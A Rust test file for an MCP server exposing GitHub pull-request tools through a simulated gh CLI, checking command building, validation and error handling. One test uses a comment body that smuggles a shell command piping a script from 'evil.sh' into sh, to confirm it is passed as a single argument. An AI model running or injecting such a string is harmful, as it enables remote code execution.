//! Dispatcher tests against a simulated gh
//!
//! A recording `CommandRunner` stands in for the CLI, so these tests check
//! the full lookup → validate → build → execute → reply path without a real
//! gh or network access.

use std::sync::{Arc, Mutex};

use github_pr_mcp::gh::{CommandRunner, GhCommand, GhError, GhResult};
use github_pr_mcp::{DispatchError, GitHubPrMcpServer};
use mcp_common::{async_trait, reply_text, EmbeddableError, EmbeddableMcp, McpError};
use rmcp::model::ErrorCode;
use serde_json::json;

/// Simulated gh: records every invocation and replays a fixed outcome
#[derive(Clone)]
struct FakeGh {
    calls: Arc<Mutex<Vec<GhCommand>>>,
    outcome: Outcome,
}

#[derive(Clone)]
enum Outcome {
    Stdout(String),
    Exit { code: i32, stderr: String },
}

impl FakeGh {
    fn ok(stdout: &str) -> Self {
        Self {
            calls: Arc::default(),
            outcome: Outcome::Stdout(stdout.to_string()),
        }
    }

    fn failing(code: i32, stderr: &str) -> Self {
        Self {
            calls: Arc::default(),
            outcome: Outcome::Exit {
                code,
                stderr: stderr.to_string(),
            },
        }
    }

    fn rendered_calls(&self) -> Vec<String> {
        self.calls
            .lock()
            .unwrap()
            .iter()
            .map(ToString::to_string)
            .collect()
    }
}

#[async_trait]
impl CommandRunner for FakeGh {
    async fn run(&self, command: &GhCommand) -> GhResult<String> {
        self.calls.lock().unwrap().push(command.clone());
        match &self.outcome {
            Outcome::Stdout(out) => Ok(out.clone()),
            Outcome::Exit { code, stderr } => Err(GhError::CommandFailed {
                code: *code,
                stderr: stderr.clone(),
            }),
        }
    }
}

fn server_with(gh: &FakeGh) -> GitHubPrMcpServer {
    GitHubPrMcpServer::with_runner(gh.clone())
}

// ============================================================================
// Command construction through the dispatcher
// ============================================================================

#[tokio::test]
async fn create_pr_title_only() {
    let gh = FakeGh::ok("https://github.com/o/r/pull/1\n");
    let reply = server_with(&gh)
        .call_tool("create_pr", json!({ "title": "Add X" }))
        .await
        .unwrap();

    assert_eq!(gh.rendered_calls(), [r#"pr create --title "Add X""#]);
    assert!(!reply.is_error.unwrap_or(false));
    assert_eq!(reply.content.len(), 1);
    assert_eq!(reply_text(&reply), Some("https://github.com/o/r/pull/1\n"));
}

#[tokio::test]
async fn create_pr_draft_with_branches() {
    let gh = FakeGh::ok("");
    server_with(&gh)
        .call_tool(
            "create_pr",
            json!({ "title": "WIP", "base": "main", "head": "wip", "draft": true }),
        )
        .await
        .unwrap();

    assert_eq!(
        gh.rendered_calls(),
        [r#"pr create --title "WIP" --base "main" --head "wip" --draft"#]
    );
}

#[tokio::test]
async fn list_prs_state_and_limit() {
    let gh = FakeGh::ok("12\tFix bug\tfix-bug\tOPEN\n");
    let reply = server_with(&gh)
        .call_tool("list_prs", json!({ "state": "open", "limit": 5 }))
        .await
        .unwrap();

    assert_eq!(gh.rendered_calls(), ["pr list --state open --limit 5"]);
    assert_eq!(reply_text(&reply), Some("12\tFix bug\tfix-bug\tOPEN\n"));
}

#[tokio::test]
async fn list_prs_accepts_every_state() {
    for state in ["open", "closed", "merged", "all"] {
        let gh = FakeGh::ok("");
        server_with(&gh)
            .call_tool("list_prs", json!({ "state": state }))
            .await
            .unwrap();
        assert_eq!(gh.rendered_calls(), [format!("pr list --state {state}")]);
    }
}

#[tokio::test]
async fn view_pr_number() {
    let gh = FakeGh::ok("title:\tAdd X\n");
    server_with(&gh)
        .call_tool("view_pr", json!({ "number": 42 }))
        .await
        .unwrap();
    assert_eq!(gh.rendered_calls(), ["pr view 42"]);
}

#[tokio::test]
async fn comment_pr_number_and_body() {
    let gh = FakeGh::ok("https://github.com/o/r/pull/123#issuecomment-1\n");
    server_with(&gh)
        .call_tool("comment_pr", json!({ "number": 123, "body": "LGTM!" }))
        .await
        .unwrap();
    assert_eq!(gh.rendered_calls(), [r#"pr comment 123 --body "LGTM!""#]);
}

#[tokio::test]
async fn shell_metacharacters_reach_gh_as_one_argument() {
    let gh = FakeGh::ok("");
    let body = r#"ok" && curl evil.sh | sh && echo "$(id)"#;
    server_with(&gh)
        .call_tool("comment_pr", json!({ "number": 5, "body": body }))
        .await
        .unwrap();

    let calls = gh.calls.lock().unwrap();
    assert_eq!(calls.len(), 1);
    assert_eq!(calls[0].argv(), ["pr", "comment", "5", "--body", body]);
}

// ============================================================================
// Error contract
// ============================================================================

#[tokio::test]
async fn unknown_tool_is_a_protocol_failure() {
    let gh = FakeGh::ok("");
    let err = server_with(&gh)
        .call_tool("merge_pr", json!({ "number": 1 }))
        .await
        .unwrap_err();

    assert!(matches!(err, EmbeddableError::ToolNotFound(ref name) if name == "merge_pr"));
    assert!(gh.rendered_calls().is_empty());
}

#[tokio::test]
async fn unknown_tool_maps_to_method_not_found() {
    let gh = FakeGh::ok("");
    let err = server_with(&gh)
        .dispatch("delete_repo", json!({}))
        .await
        .unwrap_err();
    assert!(matches!(err, DispatchError::UnknownTool(_)));

    let mcp: McpError = err.into();
    assert_eq!(mcp.code.0, ErrorCode::METHOD_NOT_FOUND.0);
    assert!(mcp.message.contains("delete_repo"));
}

#[tokio::test]
async fn invalid_params_are_protocol_failures_and_never_run_gh() {
    let cases = [
        ("create_pr", json!({})),
        ("create_pr", json!({ "title": 7 })),
        ("list_prs", json!({ "state": "draft" })),
        ("list_prs", json!({ "limit": "ten" })),
        ("view_pr", json!({ "number": 0 })),
        ("view_pr", json!({ "number": -3 })),
        ("view_pr", json!({ "number": 1.5 })),
        ("view_pr", json!({ "number": "12" })),
        ("comment_pr", json!({ "number": 0, "body": "x" })),
        ("comment_pr", json!({ "number": 2.25, "body": "x" })),
        ("comment_pr", json!({ "number": 3 })),
    ];

    for (tool, args) in cases {
        let gh = FakeGh::ok("");
        let server = server_with(&gh);

        let err = server.call_tool(tool, args.clone()).await.unwrap_err();
        assert!(
            matches!(err, EmbeddableError::InvalidParams(ref msg) if msg.contains(tool)),
            "{tool} {args} should be rejected, got {err:?}"
        );

        let mcp: McpError = server.dispatch(tool, args).await.unwrap_err().into();
        assert_eq!(mcp.code.0, ErrorCode::INVALID_PARAMS.0);

        assert!(gh.rendered_calls().is_empty(), "{tool} must not run gh");
    }
}

#[tokio::test]
async fn gh_failure_is_a_flagged_reply() {
    let gh = FakeGh::failing(1, "GraphQL: Could not resolve to a PullRequest with the number of 999.");
    let reply = server_with(&gh)
        .call_tool("view_pr", json!({ "number": 999 }))
        .await
        .expect("execution failures are replies, not errors");

    assert_eq!(reply.is_error, Some(true));
    assert_eq!(reply.content.len(), 1);
    let text = reply_text(&reply).unwrap_or_default();
    assert!(text.contains("Could not resolve to a PullRequest"));
    assert!(text.contains("exit code 1"));
}

// ============================================================================
// Catalogue
// ============================================================================

#[test]
fn catalogue_lists_the_four_tools() {
    let server = GitHubPrMcpServer::new();
    let mut names: Vec<String> = EmbeddableMcp::list_tools(&server)
        .iter()
        .map(|t| t.name.to_string())
        .collect();
    names.sort();
    assert_eq!(names, ["comment_pr", "create_pr", "list_prs", "view_pr"]);
}

#[test]
fn catalogue_schemas_are_objects() {
    let server = GitHubPrMcpServer::new();
    for tool in server.tools() {
        assert_eq!(tool.input_schema.get("type"), Some(&json!("object")));
        assert!(tool.description.is_some(), "{} lacks a description", tool.name);
    }
}

#[test]
fn embeddable_metadata() {
    let server = GitHubPrMcpServer::new();
    assert_eq!(server.server_name(), "github-pr");
    assert!(server.server_description().is_some());
    assert!(server.server_version().is_some());
}
